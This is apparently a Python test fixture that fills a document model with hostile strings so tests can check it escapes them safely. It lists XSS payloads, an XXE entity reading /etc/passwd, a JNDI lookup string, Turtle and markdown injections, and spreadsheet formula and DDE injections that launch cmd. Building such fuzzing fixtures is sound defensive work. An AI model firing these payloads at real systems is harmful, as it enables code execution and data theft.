"""Hostile texts, and programmes that contain nothing else."""

from functools import cache
from itertools import cycle, islice
from typing import Any

import benelux_programme as bp
from benelux_programme._model.characters import is_normalized_visible_text
from examples import PROGRAMME

_SCRIPT = "alert(1)"
_MARKUP = [
    f"<script>{_SCRIPT}</script>",
    f"<ScRiPt>{_SCRIPT}</sCrIpT>",
    f"<scr<script>ipt>{_SCRIPT}</scr</script>ipt>",
    f"<script src=//example.org/x.js></script>{_SCRIPT}",
    f"</script><script>{_SCRIPT}</script>",
    f"--><script>{_SCRIPT}</script><!--",
    f"]]><script>{_SCRIPT}</script><![CDATA[",
    f"</Name><Goal><Name>{_SCRIPT}</Name></Goal>",
    f'"><script>{_SCRIPT}</script>',
    f"'><script>{_SCRIPT}</script>",
    f'"/><img src=x onerror={_SCRIPT}>',
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&e; &lt;b&gt; &#60;b&#62; &#x3c;b&#x3e; &amp;lt;",
    "<!-- a comment -->",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<http://example.org/>",
    "<mailto:a@example.org>",
    "<details open ontoggle=alert(1)>",
    "<base href=//example.org>",
    "<meta http-equiv=refresh content=0;url=//example.org>",
    "<form action=//example.org><input name=q></form>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<b\n>bold</b\n>",
] + [
    f"<{tag} {event}={_SCRIPT}>"
    for tag in ("img src=x", "svg", "body", "iframe", "video><source", "input autofocus")
    for event in ("onerror", "onload", "onfocus", "onmouseover")
]  # fmt: skip
_MARKDOWN = [
    "# heading",
    "###### heading",
    "heading\n===",
    "heading\n---",
    "a\n\n# heading",
    "a\n\n- item\n- item",
    "- item",
    "* item",
    "+ item",
    "1. item",
    "1) item",
    "> quote",
    ">quote",
    "---",
    "***",
    "===",
    "```\ncode\n```",
    "~~~ code",
    "`code`",
    "``code`` and `",
    "**bold** *italic* __bold__ _italic_",
    "~~struck~~",
    "[link](javascript:alert(1))",
    '[link](https://example.org "title")',
    "![image](https://example.org/x.png)",
    "[reference][1]",
    "[1]: https://example.org",
    "a\n\n[1]: https://example.org",
    "| a | b |\n|---|---|\n| c | d |",
    "a | b",
    "\\",
    "ends in a backslash \\",
    "\\[x\\](y)",
    "ends in hashes ##",
    "[^1] and [^1]: note",
    "$x^2$ and $$y$$",
    ":::{note}\nx\n:::",
    "{role}`text` and {{ substitution }} and {% tag %}",
    "(target)=",
    "% comment",
    "+++",
    "\u00a0    code",
]  # fmt: skip
_TURTLE = [
    '" . <x:a> <x:b> <x:c> . "',
    '"@en . <x:a> <x:b> "y',
    '"""',
    'x"""@en . <x:a> <x:b> <x:c> . #',
    "''' . <x:a> <x:b> <x:c> .",
    'ends in a quote"',
    'ends in quotes ""',
    "\\u0022 \\n \\",
    "@prefix x: <x:> .",
    "> . <x:a> <x:b> <x:c> . <y:",
    "${jndi:ldap://example.org/a}",
]
FORMULAS = [
    f"{sign}{formula}"
    for sign in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    for formula in (
        "1+1",
        "SUM(1;1)",
        "cmd|' /C calc'!A0",
        'HYPERLINK("https://example.org";"click")',
        "2+5+cmd|' /C calc'!A0",
    )
] + [
    "x; =1+1",
    "x;=1+1",
    'x;"=1+1',
    "x,@SUM(1)",
    "x\n=1+1",
    "x|=1+1",
    '"=1+1"',
    "'=1+1",
    '";=1+1;"',
    '","=1+1',
    "=-+@1",
    'DDE("cmd";"/C calc";"x")',
]  # fmt: skip
PAYLOADS = [
    one for one in (*_MARKUP, *_MARKDOWN, *_TURTLE, *FORMULAS) if is_normalized_visible_text(one)
]
"""The hostile texts that the model accepts."""


@cache
def fill_programme(*texts: str) -> bp.Programme:
    """Return a programme in which every text and every free string is one of these, in turn."""
    document = _fill_texts(bp.to_dict(PROGRAMME), texts)
    kind, responsible, series, number = islice(cycle(texts), 4)
    document["publication"] |= {"kind": kind, "responsible": responsible, "sources": [*texts]}
    document["references"][0] |= {"treaty_series": series, "document": number}
    return bp.read(document)


def _fill_texts(value: Any, texts: tuple[str, ...]) -> Any:
    if isinstance(value, list):
        return [_fill_texts(one, texts) for one in value]
    if not isinstance(value, dict):
        return value
    if value.keys() <= {*bp.LANGUAGES, "official"}:
        has_lists = any(isinstance(value.get(one), list) for one in bp.LANGUAGES)
        by_language = zip(bp.LANGUAGES, cycle(texts), strict=False)
        return {language: [text] if has_lists else text for language, text in by_language}
    filled = {key: _fill_texts(one, texts) for key, one in value.items()}
    for key in ("abbreviations", "sources"):
        if key in value:
            filled[key] = [*texts]
    if isinstance(value.get("reason"), str):
        filled["reason"] = texts[0]
    return filled
